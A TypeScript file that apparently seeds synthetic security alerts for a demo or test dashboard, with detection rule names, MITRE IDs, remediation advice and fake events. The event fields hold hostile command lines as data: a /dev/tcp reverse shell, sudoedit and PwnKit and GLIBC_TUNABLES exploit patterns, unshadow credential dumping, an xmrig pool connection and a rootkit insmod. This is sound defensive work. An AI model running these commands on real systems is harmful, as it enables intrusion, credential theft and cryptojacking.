import type { Priority } from '../priority.js'

/** What a seeded alert knows about its device and moment, for the rule to fill its texts. */
export interface AlertContext {
  hostname: string
  ip: string
  user: string
  sourceIp: string
  pid: number
  pick: <T>(items: readonly T[]) => T
  int: (min: number, max: number) => number
}

export interface AlertRule {
  name: string
  ruleId: string
  mitre: string[]
  priority: Priority
  deviceType: 'linux' | 'rtos' | 'any'
  model: string
  indicator: (c: AlertContext) => string
  description: string
  recommendation: string
  summary: (c: AlertContext) => string
  event: (c: AlertContext) => Record<string, unknown>
}

const ELASTIC = 'elastic-prebuilt-rules'
const ANOMALY = 'anomaly-detector-v2'

const processEvent = (c: AlertContext, name: string, args: string, parent: string, extra: Record<string, unknown> = {}) => ({
  'event.category': 'process',
  'event.action': 'exec',
  'host.name': c.hostname,
  'host.ip': c.ip,
  'user.name': c.user,
  'process.pid': c.pid,
  'process.name': name,
  'process.command_line': `${name} ${args}`.trim(),
  'process.parent.name': parent,
  'process.parent.pid': c.pid - c.int(1, 400),
  ...extra
})

export const ALERT_RULES: AlertRule[] = [
  {
    name: 'Potential SSH Brute Force Detected',
    ruleId: '1c27fa22-7727-4dd3-81c0-de6da5555feb',
    mitre: ['T1110', 'T1110.001'],
    priority: 'Medium',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: (c) => `${c.sourceIp} → ${c.hostname}:22`,
    description: 'Many failed SSH authentication attempts from one source against the same host in a short window.',
    recommendation:
      'Block the source address at the perimeter, confirm no login from it succeeded, and enforce key-only authentication with fail2ban or sshd MaxAuthTries.',
    summary: (c) => `${c.int(40, 900)} failed SSH logins from ${c.sourceIp} against ${c.hostname} within 5 minutes.`,
    event: (c) => ({
      'event.category': 'authentication',
      'event.outcome': 'failure',
      'host.name': c.hostname,
      'source.ip': c.sourceIp,
      'source.geo.country_iso_code': c.pick(['CN', 'RU', 'NL', 'US', 'BR', 'VN', 'IN']),
      'user.name': c.pick(['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test']),
      'process.name': 'sshd',
      'event.count': c.int(40, 900),
      'destination.port': 22
    })
  },
  {
    name: 'Sudo Heap-Based Buffer Overflow Attempt',
    ruleId: '2e0a1b3c-9f44-4bd1-8a2e-6b2d8c1f0a11',
    mitre: ['T1068'],
    priority: 'Critical',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'sudoedit -s with trailing backslash (CVE-2021-3156)',
    description:
      'A sudoedit invocation with the -s flag and an argument ending in a backslash, the pattern used to exploit Baron Samedit (CVE-2021-3156).',
    recommendation:
      "Update sudo to 1.9.5p2 or later immediately, review the user's session and check /etc/sudoers and SUID binaries for tampering.",
    summary: (c) =>
      `${c.user} ran sudoedit -s with an argument ending in "\\" on ${c.hostname}; sudo on this host is vulnerable to CVE-2021-3156.`,
    event: (c) =>
      processEvent(c, 'sudoedit', "-s '\\' $(perl -e 'print \"A\" x 65536')", 'bash', {
        'process.args_count': 3,
        'vulnerability.id': 'CVE-2021-3156'
      })
  },
  {
    name: 'Potential Privilege Escalation via PKEXEC',
    ruleId: '8da41fc9-7735-4b24-9cc6-c78dfc9fc9c9',
    mitre: ['T1068', 'T1574.007'],
    priority: 'High',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'pkexec executed with an empty argv and GCONV_PATH set (CVE-2021-4034)',
    description: 'pkexec was executed with no arguments and a GCONV_PATH environment variable, the PwnKit exploitation pattern.',
    recommendation:
      'Update polkit, or remove the SUID bit from pkexec as a stop-gap; investigate the parent process and the user account.',
    summary: (c) =>
      `pkexec was started by ${c.user} with argc=0 and GCONV_PATH pointing to a writable directory on ${c.hostname}.`,
    event: (c) =>
      processEvent(c, 'pkexec', '', c.pick(['python3', 'sh', 'bash']), {
        'process.env_vars': ['GCONV_PATH=./pwnkit', 'CHARSET=PWNKIT'],
        'process.args_count': 0
      })
  },
  {
    name: 'Potential Reverse Shell Activity via Terminal',
    ruleId: 'd0e45f6c-1f83-4d97-a8d9-c8f9eb61c15c',
    mitre: ['T1059', 'T1059.004'],
    priority: 'Critical',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: (c) => `bash -i >& /dev/tcp/${c.sourceIp}/4444`,
    description:
      'A shell was started with its input and output redirected to a network socket, a common reverse shell technique.',
    recommendation:
      'Isolate the host, capture memory and network evidence, kill the process tree and identify the initial access vector.',
    summary: (c) => `Interactive bash on ${c.hostname} connected its stdio to ${c.sourceIp}:4444.`,
    event: (c) =>
      processEvent(
        c,
        'bash',
        `-c "bash -i >& /dev/tcp/${c.sourceIp}/4444 0>&1"`,
        c.pick(['php-fpm', 'nginx', 'python3', 'java']),
        { 'destination.ip': c.sourceIp, 'destination.port': 4444 }
      )
  },
  {
    name: 'Potential Linux Credential Dumping via Unshadow',
    ruleId: 'e7cb3cfd-aaa3-4d7b-af18-23b89955062c',
    mitre: ['T1003', 'T1003.008'],
    priority: 'High',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'unshadow /etc/passwd /etc/shadow',
    description: 'The unshadow utility combined /etc/passwd and /etc/shadow, typically before offline password cracking.',
    recommendation:
      'Rotate the passwords of every local account on the host, check who had root, and look for exfiltration of the output file.',
    summary: (c) => `unshadow was executed by ${c.user} on ${c.hostname}, writing a crackable password file.`,
    event: (c) => processEvent(c, 'unshadow', '/etc/passwd /etc/shadow', 'bash', { 'file.path': '/tmp/.h' })
  },
  {
    name: 'Modification of OpenSSH Binaries',
    ruleId: '0415258b-a7b2-48a6-891a-3367cd9d4d31',
    mitre: ['T1556', 'T1543'],
    priority: 'High',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => '/usr/sbin/sshd modified outside the package manager',
    description:
      'An OpenSSH binary was changed by a process that is not the package manager, which may indicate a backdoored SSH daemon.',
    recommendation:
      'Verify the binary against the distribution package (debsums/rpm -V), reinstall openssh-server and rotate host keys.',
    summary: (c) => `/usr/sbin/sshd on ${c.hostname} was rewritten by a ${c.pick(['cp', 'mv', 'python3', 'curl'])} process.`,
    event: (c) => ({
      'event.category': 'file',
      'event.action': 'modification',
      'host.name': c.hostname,
      'file.path': '/usr/sbin/sshd',
      'process.name': c.pick(['cp', 'mv', 'python3']),
      'user.name': 'root'
    })
  },
  {
    name: 'Cron Job Created or Changed by Previously Unknown Process',
    ruleId: 'ff10d4d8-fea7-422d-afb1-e5a2702369a9',
    mitre: ['T1053', 'T1053.003'],
    priority: 'Medium',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => '/etc/cron.d entry written by an unusual process',
    description:
      'A cron file was created or changed by a process that has not been seen doing so before, a common persistence technique.',
    recommendation:
      'Review the new cron entry and the binary it runs; remove it if unexpected and search other hosts for the same file hash.',
    summary: (c) =>
      `New cron entry /etc/cron.d/${c.pick(['sysupdate', 'apache2', '.x', 'logrotate2'])} written on ${c.hostname}.`,
    event: (c) => ({
      'event.category': 'file',
      'event.action': 'creation',
      'host.name': c.hostname,
      'file.path': '/etc/cron.d/sysupdate',
      'process.name': c.pick(['curl', 'wget', 'sh', 'python3']),
      'user.name': 'root'
    })
  },
  {
    name: 'Systemd Service Created',
    ruleId: '17b0a495-4d9f-414c-8ad0-92f018b8e001',
    mitre: ['T1543', 'T1543.002'],
    priority: 'Low',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'new unit in /etc/systemd/system',
    description: 'A new systemd service unit was created; legitimate for installs, but also used for persistence.',
    recommendation: 'Confirm the service belongs to a planned change; otherwise disable it and inspect its ExecStart binary.',
    summary: (c) =>
      `Unit ${c.pick(['kworkerd', 'dbus-helper', 'node-exporter', 'console-agent'])}.service created on ${c.hostname}.`,
    event: (c) => ({
      'event.category': 'file',
      'event.action': 'creation',
      'host.name': c.hostname,
      'file.path': '/etc/systemd/system/kworkerd.service',
      'process.name': 'systemctl',
      'user.name': 'root'
    })
  },
  {
    name: 'Suspicious Mining Process Creation Event',
    ruleId: 'e2258f48-ba75-4248-951b-7c885edf18c2',
    mitre: ['T1496'],
    priority: 'High',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'xmrig connecting to a mining pool on port 3333',
    description: 'A known cryptocurrency miner process was started.',
    recommendation:
      'Kill the miner, remove its persistence and find how it arrived (exposed service, stolen SSH key, vulnerable web app).',
    summary: (c) => `xmrig started on ${c.hostname} with ${c.int(2, 16)} threads, connecting to pool.supportxmr.com:3333.`,
    event: (c) =>
      processEvent(c, 'xmrig', '-o pool.supportxmr.com:3333 --donate-level 1', c.pick(['sh', 'cron', 'kworkerd']), {
        'destination.port': 3333
      })
  },
  {
    name: 'Kernel Module Load via insmod',
    ruleId: '2339f03c-f53f-40fa-834b-40c5983fc41f',
    mitre: ['T1547', 'T1547.006'],
    priority: 'Medium',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'insmod of a module outside /lib/modules',
    description: 'A kernel module was loaded with insmod from an unusual path; rootkits load this way.',
    recommendation: 'Check the module against the vendor build, list hidden processes and consider reimaging the host.',
    summary: (c) => `insmod /tmp/${c.pick(['diamorphine', 'rk', 'nfnet'])}.ko executed on ${c.hostname}.`,
    event: (c) => processEvent(c, 'insmod', '/tmp/diamorphine.ko', 'bash')
  },
  {
    name: 'Attempt to Clear Kernel Ring Buffer',
    ruleId: '2724808c-ba5d-48b2-86d2-0002103df753',
    mitre: ['T1070', 'T1070.002'],
    priority: 'Low',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'dmesg -c',
    description: 'The kernel ring buffer was cleared, which can hide evidence of a kernel exploit or module load.',
    recommendation: 'Correlate with module loads and privilege changes on the host around the same time.',
    summary: (c) => `dmesg -c was executed by ${c.user} on ${c.hostname}.`,
    event: (c) => processEvent(c, 'dmesg', '-c', 'bash')
  },
  {
    name: 'Potential Privilege Escalation via GLIBC_TUNABLES (Looney Tunables)',
    ruleId: '6f5b6c0a-1f2e-4c43-9a0b-7a0c1a4b2d8e',
    mitre: ['T1068'],
    priority: 'Critical',
    deviceType: 'linux',
    model: ELASTIC,
    indicator: () => 'SUID binary started with an overlong GLIBC_TUNABLES (CVE-2023-4911)',
    description:
      'A SUID program was executed with a malformed GLIBC_TUNABLES environment variable, the exploitation pattern of CVE-2023-4911.',
    recommendation: 'Patch glibc, check for new root-owned files and accounts, and rotate credentials used on the host.',
    summary: (c) => `su was executed with a ${c.int(600, 4000)}-byte GLIBC_TUNABLES value on ${c.hostname}.`,
    event: (c) =>
      processEvent(c, 'su', '--help', 'python3', {
        'process.env_vars': ['GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A...'],
        'vulnerability.id': 'CVE-2023-4911'
      })
  },
  {
    name: 'Suspicious Outbound DNS Volume (Possible Tunneling)',
    ruleId: '91f02f01-969f-4167-8f55-07827ac3acc9',
    mitre: ['T1071', 'T1071.004', 'T1048'],
    priority: 'Medium',
    deviceType: 'any',
    model: ANOMALY,
    indicator: (c) => `${c.int(2, 40)}k TXT queries to one domain`,
    description:
      'An unusual number of DNS TXT queries with long random labels to a single domain, consistent with DNS tunnelling.',
    recommendation: 'Block the domain at the resolver, inspect the querying process and look for data staged for exfiltration.',
    summary: (c) =>
      `${c.hostname} sent ${c.int(2000, 40000)} TXT queries to ${c.pick(['d3x.example-cdn.net', 'tun.qzx.io', 'upd.metricsync.org'])} in one hour.`,
    event: (c) => ({
      'event.category': 'network',
      'host.name': c.hostname,
      'dns.question.type': 'TXT',
      'dns.question.registered_domain': c.pick(['example-cdn.net', 'qzx.io']),
      'network.protocol': 'dns',
      'anomaly.score': c.int(70, 99)
    })
  },
  {
    name: 'Anomalous CPU Usage on Embedded Device',
    ruleId: 'b1c3e7a2-5a4d-4f0e-8c41-2d7f3b9e6a10',
    mitre: ['T1496', 'T1499'],
    priority: 'Medium',
    deviceType: 'rtos',
    model: ANOMALY,
    indicator: (c) => `thread CPU ${c.int(85, 99)}% against a baseline of ${c.int(3, 15)}%`,
    description:
      'A thread on an RTOS device uses far more CPU than its learned baseline, which may indicate a denial of service or tampering.',
    recommendation:
      'Check recent firmware updates and network input to the device; capture the thread list and reboot into a known-good image if needed.',
    summary: (c) =>
      `${c.pick(['net_rx', 'IP-task', 'NetX IP Instance', 'coap_server'])} on ${c.hostname} ran at ${c.int(85, 99)}% CPU for ${c.int(5, 60)} minutes.`,
    event: (c) => ({
      'event.category': 'host',
      'host.name': c.hostname,
      'thread.name': c.pick(['net_rx', 'IP-task', 'coap_server']),
      'cpu.usage.pct': c.int(85, 99),
      'baseline.pct': c.int(3, 15),
      'anomaly.score': c.int(70, 99)
    })
  },
  {
    name: 'Unexpected Firmware Update Attempt',
    ruleId: 'c4a9d2f1-7b3e-4e8a-9d5c-1f2a3b4c5d6e',
    mitre: ['T0857', 'T1542.001'],
    priority: 'High',
    deviceType: 'rtos',
    model: ANOMALY,
    indicator: (c) => `DFU image pushed from ${c.sourceIp}, signature check failed`,
    description:
      'A firmware image was offered to the device from an address that is not the update server, and its signature did not verify.',
    recommendation:
      'Confirm the bootloader rejected the image, block the source, and verify that secure boot keys are not compromised.',
    summary: (c) =>
      `${c.hostname} received an unsigned firmware image (${c.int(180, 900)} KiB) from ${c.sourceIp}; MCUboot rejected it.`,
    event: (c) => ({
      'event.category': 'configuration',
      'host.name': c.hostname,
      'source.ip': c.sourceIp,
      'firmware.signature_valid': false,
      'firmware.size_kib': c.int(180, 900),
      bootloader: 'mcuboot'
    })
  },
  {
    name: 'MQTT Broker Authentication Failures from Device',
    ruleId: 'a8e7f6d5-c4b3-4a29-8f1e-0d9c8b7a6f5e',
    mitre: ['T1110', 'T1078'],
    priority: 'Low',
    deviceType: 'rtos',
    model: ELASTIC,
    indicator: (c) => `${c.int(10, 200)} CONNACK 0x05 (not authorised)`,
    description:
      'The device repeatedly failed to authenticate to the MQTT broker; its credentials may have been changed or cloned to another device.',
    recommendation: 'Check whether another client uses the same client id, then re-provision the device certificate.',
    summary: (c) => `${c.hostname} was refused by the MQTT broker ${c.int(10, 200)} times in 10 minutes.`,
    event: (c) => ({
      'event.category': 'authentication',
      'event.outcome': 'failure',
      'host.name': c.hostname,
      'mqtt.client_id': c.hostname,
      'mqtt.connack_code': 5,
      'destination.port': 8883
    })
  },
  {
    name: 'Network Connection to Known Malicious Infrastructure',
    ruleId: '3f0a9b8c-7d6e-4f5a-b4c3-d2e1f0a9b8c7',
    mitre: ['T1071', 'T1105'],
    priority: 'High',
    deviceType: 'any',
    model: ELASTIC,
    indicator: (c) => `${c.hostname} → ${c.sourceIp}:443 (threat intel match)`,
    description:
      'The device connected to an address listed by threat intelligence as command-and-control or malware distribution infrastructure.',
    recommendation: 'Block the address, find the process that connected, and check the device for implants.',
    summary: (c) =>
      `Outbound TLS connection from ${c.hostname} to ${c.sourceIp}, listed as ${c.pick(['Mirai C2', 'Cobalt Strike team server', 'Sliver C2', 'malware download host'])}.`,
    event: (c) => ({
      'event.category': 'network',
      'host.name': c.hostname,
      'destination.ip': c.sourceIp,
      'destination.port': 443,
      'threat.indicator.type': 'ipv4-addr',
      'threat.feed.name': c.pick(['AbuseCH Feodo', 'AlienVault OTX', 'ThreatFox'])
    })
  }
]
